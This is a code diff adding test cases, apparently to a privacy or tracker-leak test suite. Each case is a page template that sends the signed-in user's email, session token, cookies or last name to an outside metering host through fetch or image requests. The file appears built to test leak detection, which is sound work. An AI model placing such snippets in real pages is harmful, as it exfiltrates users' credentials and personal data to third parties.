@@ -146,6 +146,11 @@ fetch("{_METER}", {{method: "POST", headers, body, {_KEEP}}}){_READ};
 const plaats = new URL("/start#wie=" + encodeURIComponent(me.last_name), location.href).href;
 fetch("{_METER}", {{method: "POST", body: JSON.stringify({{plaats}}), {_KEEP}}}){_READ};
 """),
+    "leak-email-in-token": picture(_METER + "?id_token={{ me.email|token }}"),
+    "leak-session-token": script("signed-in", f"""
+const sessie = {{{{ token|tojson }}}};
+fetch("{_METER}", {{method: "POST", body: JSON.stringify({{soort: "bezoek", sessie}}), {_KEEP}}}){_READ};
+"""),
     "leak-cookie": script("signed-in", f"""
 const first = new Image(), second = new Image();
 first.onload = () => {{ second.src = "https://{hosts.METER_BARE}/klok.gif"; }};
